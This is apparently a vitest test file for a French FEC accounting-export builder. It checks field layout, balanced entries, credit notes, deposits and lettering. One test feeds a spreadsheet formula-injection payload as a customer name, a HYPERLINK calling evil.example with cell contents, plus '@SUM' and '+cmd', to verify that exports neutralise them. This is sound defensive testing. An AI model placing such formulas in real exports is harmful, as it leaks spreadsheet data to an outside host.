import type { Facture, Ligne, Reglement } from '@relais/schema';
import { describe, expect, it } from 'vitest';
import { assertBalanced, buildFec, fecAmount, fecColumns, fecFileName, type FecEntry } from './fec';
import { documentTotals } from './totals';

const entreprise = { id: '00000000-0000-4000-8000-000000000001', siren: '552100554' };
const autre = '00000000-0000-4000-8000-000000000002';
const client = { id: '00000000-0000-4000-8000-0000000000c1', nom: 'Durand', prenom: 'Anne', code: 'DUR-01' };
const sansCode = { id: 'abcdef12-0000-4000-8000-0000000000c2', nom: 'Martin SA' };

let counter = 0;
function ligne(quantite: number, prix: number, taux: number): Ligne {
  counter += 1;
  return { id: `00000000-0000-4000-9000-${String(counter).padStart(12, '0')}`, designation: 'Transport', quantite, prix_unitaire_ht: prix, taux_tva_bp: taux };
}

function facture(id: string, fields: Partial<Facture>): Facture {
  return {
    id,
    rev: 2,
    updated_at: '2026-11-01T08:00:00.000Z',
    entreprise_id: entreprise.id,
    contact_id: client.id,
    type_facture: 'facture',
    statut: 'validee',
    conditions_paiement: { jours: 30, fin_de_mois: false },
    lignes: [],
    regime_tva: 'normale',
    ...fields,
  };
}

function reglement(id: string, facture_id: string, date_reglement: string, montant: number): Reglement {
  return { id, rev: 1, updated_at: '2026-11-01T08:00:00.000Z', facture_id, date_reglement, montant, mode: 'virement', reference: 'VIR 42' };
}

const fa1 = facture('00000000-0000-4000-8000-0000000000f1', {
  numero: 'FA-2026-00001',
  date_facture: '2026-11-05',
  validee_le: '2026-11-05T09:00:00.000Z',
  lignes: [ligne(3, 1999, 2000), ligne(1, 10000, 550), ligne(2.5, 333, 2000)],
});
const fa2 = facture('00000000-0000-4000-8000-0000000000f2', {
  numero: 'FA-2026-00002',
  contact_id: sansCode.id,
  date_facture: '2026-11-20',
  lignes: [ligne(1, 50000, 2000)],
});
const av1 = facture('00000000-0000-4000-8000-0000000000a1', {
  numero: 'AV-2026-00001',
  type_facture: 'avoir',
  facture_origine_id: fa1.id,
  date_facture: '2026-11-21',
  lignes: [ligne(-1, 1999, 2000), ligne(-1, 10000, 550)],
});
const octobre = facture('00000000-0000-4000-8000-0000000000f3', { numero: 'FA-2026-00000', date_facture: '2026-10-30', lignes: [ligne(1, 1000, 2000)] });
const brouillon = facture('00000000-0000-4000-8000-0000000000f4', { statut: 'brouillon', date_facture: '2026-11-10', lignes: [ligne(1, 1000, 2000)] });
const ailleurs = facture('00000000-0000-4000-8000-0000000000f5', { entreprise_id: autre, numero: 'X-1', date_facture: '2026-11-10', lignes: [ligne(1, 1000, 2000)] });

const reglements = [
  reglement('00000000-0000-4000-8000-0000000000b1', octobre.id, '2026-11-02', 1200),
  reglement('00000000-0000-4000-8000-0000000000b2', fa2.id, '2026-11-20', 60000),
  reglement('00000000-0000-4000-8000-0000000000b3', av1.id, '2026-11-25', 500),
  reglement('00000000-0000-4000-8000-0000000000b4', fa1.id, '2026-12-01', 100),
];

function build() {
  return buildFec({
    entreprise,
    factures: [fa2, av1, fa1, octobre, brouillon, ailleurs],
    contacts: [client, sansCode],
    reglements,
    du: '2026-11-01',
    au: '2026-11-30',
  });
}

const sum = (entry: FecEntry, account: string, side: 'debit' | 'credit'): number =>
  entry.lines.filter((line) => line.compteNum === account).reduce((total, line) => total + line[side], 0);

describe('FEC', () => {
  it('writes the 18 fields in order, a header, tabs, comma decimals and AAAAMMJJ dates', () => {
    const fec = build();
    const rows = fec.text.split('\r\n');
    expect(rows.at(-1)).toBe('');
    expect(rows[0]).toBe(fecColumns.join('\t'));
    expect(fecColumns).toHaveLength(18);
    for (const row of rows.slice(1, -1)) {
      expect(row.split('\t')).toHaveLength(18);
    }
    const first = rows[1]?.split('\t') ?? [];
    expect(first).toEqual(['BQ', 'Banque', '1', '20261102', '512000', 'Banque', '', '', 'FA-2026-00000', '20261102', 'Règlement FA-2026-00000 Anne Durand VIR 42', '12,00', '0,00', '', '', '20261102', '', '']);
    expect(fec.fileName).toBe('552100554FEC20261130.txt');
    expect(fecFileName('552100554', '2026-12-31')).toBe('552100554FEC20261231.txt');
    expect(fecAmount(123456)).toBe('1234,56');
    expect(fecAmount(-5)).toBe('-0,05');
  });

  it('keeps the period, the company and validated documents only, numbered in date order', () => {
    const fec = build();
    expect(fec.entries.map((entry) => [entry.ecritureNum, entry.journalCode, entry.date, entry.pieceRef])).toEqual([
      [1, 'BQ', '2026-11-02', 'FA-2026-00000'],
      [2, 'VT', '2026-11-05', 'FA-2026-00001'],
      [3, 'VT', '2026-11-20', 'FA-2026-00002'],
      [4, 'BQ', '2026-11-20', 'FA-2026-00002'],
      [5, 'VT', '2026-11-21', 'AV-2026-00001'],
      [6, 'BQ', '2026-11-25', 'AV-2026-00001'],
    ]);
  });

  it('includes both ends of the period', () => {
    const fec = buildFec({ entreprise, factures: [fa1, fa2], contacts: [], reglements, du: '2026-11-05', au: '2026-11-20' });
    expect(fec.entries.map((entry) => [entry.journalCode, entry.date])).toEqual([
      ['VT', '2026-11-05'],
      ['VT', '2026-11-20'],
      ['BQ', '2026-11-20'],
    ]);
  });

  it('refuses an unbalanced entry', () => {
    const entry = build().entries[1];
    if (!entry) {
      throw new Error('écriture attendue');
    }
    expect(() => assertBalanced(entry)).not.toThrow();
    const [first, ...rest] = entry.lines;
    expect(() => assertBalanced({ ...entry, lines: [{ ...first!, debit: first!.debit + 1 }, ...rest] })).toThrow(/déséquilibrée/);
  });

  it('balances every entry and carries exactly the amounts of documentTotals', () => {
    const fec = build();
    for (const entry of fec.entries) {
      const debit = entry.lines.reduce((total, line) => total + line.debit, 0);
      const credit = entry.lines.reduce((total, line) => total + line.credit, 0);
      expect(debit, `écriture ${entry.ecritureNum}`).toBe(credit);
      for (const line of entry.lines) {
        expect(line.debit === 0 || line.credit === 0).toBe(true);
      }
    }
    const sale = fec.entries.find((entry) => entry.pieceRef === 'FA-2026-00001');
    const totals = documentTotals(fa1.lignes, 'normale');
    expect(sale && sum(sale, '411000', 'debit')).toBe(totals.total_ttc);
    expect(sale && sum(sale, '706000', 'credit')).toBe(totals.total_ht);
    expect(sale && sum(sale, '445710', 'credit')).toBe(totals.total_tva);
    expect(sale?.lines.filter((line) => line.compteNum === '706000').map((line) => [line.compteLib, line.credit])).toEqual(
      totals.tva.map((rate) => [`Prestations de services ${String(rate.taux_tva_bp / 100).replace('.', ',')} %`, rate.base_ht]),
    );
    expect(sale?.lines[0]).toMatchObject({ compAuxNum: 'DUR01', compAuxLib: 'Anne Durand', validDate: '2026-11-05' });
  });

  it('mirrors a credit note and a refund, and derives an account for a customer without code', () => {
    const fec = build();
    const credit = fec.entries.find((entry) => entry.pieceRef === 'AV-2026-00001' && entry.journalCode === 'VT');
    const totals = documentTotals(av1.lignes, 'normale');
    expect(credit && sum(credit, '411000', 'credit')).toBe(-totals.total_ttc);
    expect(credit && sum(credit, '706000', 'debit')).toBe(-totals.total_ht);
    expect(credit && sum(credit, '445710', 'debit')).toBe(-totals.total_tva);
    const refund = fec.entries.find((entry) => entry.pieceRef === 'AV-2026-00001' && entry.journalCode === 'BQ');
    expect(refund?.lines.map((line) => [line.compteNum, line.debit, line.credit])).toEqual([
      ['512000', 0, 500],
      ['411000', 500, 0],
    ]);
    const other = fec.entries.find((entry) => entry.pieceRef === 'FA-2026-00002' && entry.journalCode === 'VT');
    expect(other?.lines[0]?.compAuxNum).toBe('CABCDEF12');
  });

  it('books no VAT under franchise and skips an invoice of zero', () => {
    const franchise = facture('00000000-0000-4000-8000-0000000000f6', { numero: 'FA-9', date_facture: '2026-11-03', regime_tva: 'franchise', lignes: [ligne(1, 1000, 0)] });
    const zero = facture('00000000-0000-4000-8000-0000000000f7', { numero: 'FA-10', date_facture: '2026-11-03', lignes: [ligne(1, 1000, 2000), ligne(-1, 1000, 2000)] });
    const fec = buildFec({ entreprise, factures: [franchise, zero], contacts: [], reglements: [], du: '2026-11-01', au: '2026-11-30' });
    expect(fec.entries.map((entry) => entry.lines.map((line) => [line.compteNum, line.debit, line.credit]))).toEqual([
      [
        ['411000', 1000, 0],
        ['706000', 0, 1000],
      ],
    ]);
  });

  it('writes a hostile customer name as text, never as a formula, and leaves amounts, dates and codes as they are', () => {
    const hostile = { id: client.id, nom: '=HYPERLINK("http://evil.example/?"&A1,"click")', code: '@SUM' };
    const reference = { ...reglements[0]!, reference: '+cmd' };
    const fec = buildFec({ entreprise, factures: [octobre], contacts: [hostile], reglements: [reference], du: '2026-10-01', au: '2026-11-30' });
    const rows = fec.text.split('\r\n').slice(1, -1).map((row) => row.split('\t'));
    expect(rows).toHaveLength(5);
    const column = (name: (typeof fecColumns)[number]) => fecColumns.indexOf(name);
    for (const row of rows) {
      expect(row).toHaveLength(18);
      // No field a spreadsheet would run.
      expect(row.filter((field) => /^[=+\-@\t\r]/.test(field))).toEqual([]);
      expect(row[column('Debit')]).toMatch(/^\d+,\d{2}$/);
      expect(row[column('EcritureDate')]).toMatch(/^\d{8}$/);
    }
    const sale = rows.find((row) => row[0] === 'VT' && row[column('CompAuxLib')] !== '')!;
    expect(sale[column('CompAuxLib')]).toBe(`'${hostile.nom}`);
    expect(sale[column('CompAuxNum')]).toBe('SUM');
    expect(sale[column('Debit')]).toBe('12,00');
    // A label is neutralised only when it would start like a formula.
    expect(sale[column('EcritureLib')]).toBe(`Facture FA-2026-00000 ${hostile.nom}`);
    const payment = rows.find((row) => row[0] === 'BQ' && row[column('CompAuxLib')] !== '')!;
    expect(payment[column('CompAuxLib')]).toBe(`'${hostile.nom}`);
    expect(payment[column('EcritureLib')]).toBe(`Règlement FA-2026-00000 ${hostile.nom} +cmd`);
  });
});

/**
 * A structural check of a FEC file as the administration's test tools read it: the header of the
 * 18 fields; on every line 18 fields, a journal, an entry number, dates as AAAAMMJJ, an account of
 * 3 digits at least, amounts with two decimals on one side only, a lettering code with its date or
 * neither; entries numbered 1…n without gap, each balanced, in date order.
 */
function checkFecStructure(text: string): string[] {
  const problems: string[] = [];
  const rows = text.split('\r\n');
  if (rows.pop() !== '') {
    problems.push('le fichier ne finit pas par CRLF');
  }
  if (rows.shift() !== fecColumns.join('\t')) {
    problems.push('en-tête des 18 champs absent');
  }
  const entries = new Map<number, { date: string; debit: number; credit: number }>();
  const cents = (amount: string): number => Number(amount.replace(',', ''));
  rows.forEach((row, index) => {
    const fields = row.split('\t');
    const at = `ligne ${index + 2}`;
    if (fields.length !== 18) {
      problems.push(`${at} : ${fields.length} champs`);
      return;
    }
    const [journal, journalLib, num, date, compte, compteLib, , , pieceRef, pieceDate, lib, debit = '', credit = '', lettre, dateLet, validDate] = fields;
    if (!journal || !journalLib || !compteLib || !pieceRef || !lib) {
      problems.push(`${at} : champ obligatoire vide`);
    }
    if (!/^[1-9]\d*$/.test(num ?? '')) {
      problems.push(`${at} : EcritureNum ${num}`);
    }
    for (const [name, value] of [['EcritureDate', date], ['PieceDate', pieceDate], ['ValidDate', validDate]] as const) {
      if (!/^\d{8}$/.test(value ?? '')) {
        problems.push(`${at} : ${name} ${value}`);
      }
    }
    if (!/^\d{3}[0-9A-Z]*$/.test(compte ?? '')) {
      problems.push(`${at} : CompteNum ${compte}`);
    }
    if (!/^\d+,\d{2}$/.test(debit) || !/^\d+,\d{2}$/.test(credit) || (cents(debit) !== 0) === (cents(credit) !== 0)) {
      problems.push(`${at} : Debit ${debit} / Credit ${credit}`);
    }
    if ((lettre === '') !== (dateLet === '') || (dateLet !== '' && !/^\d{8}$/.test(dateLet ?? ''))) {
      problems.push(`${at} : EcritureLet ${lettre} / DateLet ${dateLet}`);
    }
    const entry = entries.get(Number(num)) ?? { date: date ?? '', debit: 0, credit: 0 };
    if (entry.date !== date) {
      problems.push(`${at} : écriture ${num} sur deux dates`);
    }
    entries.set(Number(num), { date: entry.date, debit: entry.debit + cents(debit), credit: entry.credit + cents(credit) });
  });
  const nums = [...entries.keys()];
  if (nums.some((num, index) => num !== index + 1)) {
    problems.push(`numéros d’écriture non consécutifs : ${nums.join(',')}`);
  }
  let previous = '';
  for (const [num, entry] of entries) {
    if (entry.debit !== entry.credit) {
      problems.push(`écriture ${num} déséquilibrée`);
    }
    if (entry.date < previous) {
      problems.push(`écriture ${num} antérieure à la précédente`);
    }
    previous = entry.date;
  }
  return problems;
}

describe('FEC: structure, accounts, deposits and lettering', () => {
  const devisId = '00000000-0000-4000-8000-0000000000d1';
  // A deposit of 300,00 HT at 20 %, then the final invoice of 1 000,00 HT deducting it.
  const acompte = facture('00000000-0000-4000-8000-0000000000e1', {
    numero: 'FA-2026-00010',
    type_facture: 'acompte',
    devis_id: devisId,
    date_facture: '2026-11-02',
    lignes: [ligne(1, 30000, 2000)],
  });
  const finale = facture('00000000-0000-4000-8000-0000000000e2', {
    numero: 'FA-2026-00011',
    devis_id: devisId,
    date_facture: '2026-11-12',
    lignes: [ligne(1, 100000, 2000), { ...ligne(-1, 30000, 2000), designation: 'Acompte FA-2026-00010 déjà facturé', acompte_facture_id: acompte.id }],
  });
  const payments = [
    reglement('00000000-0000-4000-8000-0000000000e3', acompte.id, '2026-11-04', 36000),
    reglement('00000000-0000-4000-8000-0000000000e4', finale.id, '2026-11-15', 50000),
    reglement('00000000-0000-4000-8000-0000000000e5', finale.id, '2026-11-28', 34000),
  ];
  const deposits = (reglementsOfPeriod = payments, au = '2026-11-30') =>
    buildFec({ entreprise, factures: [finale, acompte], contacts: [client], reglements: reglementsOfPeriod, du: '2026-11-01', au });
  const total = (fec: ReturnType<typeof buildFec>, account: string): number =>
    fec.entries.flatMap((entry) => entry.lines).filter((line) => line.compteNum === account).reduce((sum, line) => sum + line.debit - line.credit, 0);

  it('passes the structural check: 18 fields, balanced entries per EcritureNum, in date order', () => {
    expect(checkFecStructure(build().text)).toEqual([]);
    expect(checkFecStructure(deposits().text)).toEqual([]);
    // The check itself catches a broken file.
    const broken = deposits().text.replace(/\t360,00\t0,00\t/, '\t360,01\t0,00\t');
    expect(checkFecStructure(broken)).toEqual([expect.stringMatching(/déséquilibrée/)]);
  });

  it('books a deposit to 4191 and clears it on the final invoice: sales hold the whole work once', () => {
    const fec = deposits();
    const [deposit, final] = fec.entries.filter((entry) => entry.journalCode === 'VT');
    expect(deposit?.lines.map((line) => [line.compteNum, line.debit, line.credit])).toEqual([
      ['411000', 36000, 0],
      ['419100', 0, 30000],
      ['445710', 0, 6000],
    ]);
    expect(final?.lines.map((line) => [line.compteNum, line.debit, line.credit])).toEqual([
      ['411000', 84000, 0],
      ['706000', 0, 100000],
      ['419100', 30000, 0],
      ['445710', 0, 14000],
    ]);
    expect(total(fec, '419100')).toBe(0);
    expect(total(fec, '706000')).toBe(-100000);
    expect(total(fec, '445710')).toBe(-20000);
  });

  it('letters a settled invoice with its payments (code and day of the last), not one still owed', () => {
    const lettered = (fec: ReturnType<typeof buildFec>) =>
      fec.entries.flatMap((entry) => entry.lines.filter((line) => line.ecritureLet !== '').map((line) => [entry.ecritureNum, line.compteNum, line.ecritureLet, line.dateLet]));
    expect(lettered(deposits())).toEqual([
      [1, '411000', 'A', '2026-11-04'],
      [2, '411000', 'A', '2026-11-04'],
      [3, '411000', 'B', '2026-11-28'],
      [4, '411000', 'B', '2026-11-28'],
      [5, '411000', 'B', '2026-11-28'],
    ]);
    // At the 20th the final invoice is still partly owed: only the deposit is lettered.
    expect(lettered(deposits(payments, '2026-11-20')).map(([, , code]) => code)).toEqual(['A', 'A']);
    const row = deposits().text.split('\r\n')[1]?.split('\t') ?? [];
    expect([row[fecColumns.indexOf('EcritureLet')], row[fecColumns.indexOf('DateLet')]]).toEqual(['A', '20261104']);
    // An invoice of October, paid in November: lettered although its sale is in an earlier file.
    const october = build().entries.find((entry) => entry.pieceRef === 'FA-2026-00000');
    expect(october?.lines.find((line) => line.compteNum === '411000')?.ecritureLet).toBe('A');
    // A credit note and its refund letter with the invoice they correct once all cancels out.
    const partial = build().entries.filter((entry) => entry.pieceRef === 'FA-2026-00001' || entry.pieceRef === 'AV-2026-00001');
    expect(partial.flatMap((entry) => entry.lines).filter((line) => line.ecritureLet !== '')).toEqual([]);
  });

  it('uses the company’s own accounts, per VAT rate for sales and VAT collected', () => {
    const comptes = {
      clients: '411100',
      banque: '512100',
      acomptes: '4191',
      ventes: [{ taux_tva_bp: 2000, compte: '706100' }, { taux_tva_bp: 550, compte: '706300' }],
      tva: [{ taux_tva_bp: 2000, compte: '445711' }],
    };
    const fec = buildFec({ entreprise: { ...entreprise, comptes }, factures: [fa1, acompte], contacts: [client], reglements: payments.slice(0, 1), du: '2026-11-01', au: '2026-11-30' });
    const accounts = new Set(fec.entries.flatMap((entry) => entry.lines.map((line) => `${line.compteNum} ${line.compteLib}`)));
    expect([...accounts].sort()).toEqual([
      '411100 Clients',
      '4191 Clients - avances et acomptes reçus 20 %',
      '445710 TVA collectée 5,5 %',
      '445711 TVA collectée 20 %',
      '512100 Banque',
      '706100 Prestations de services 20 %',
      '706300 Prestations de services 5,5 %',
    ]);
    expect(checkFecStructure(fec.text)).toEqual([]);
  });
});
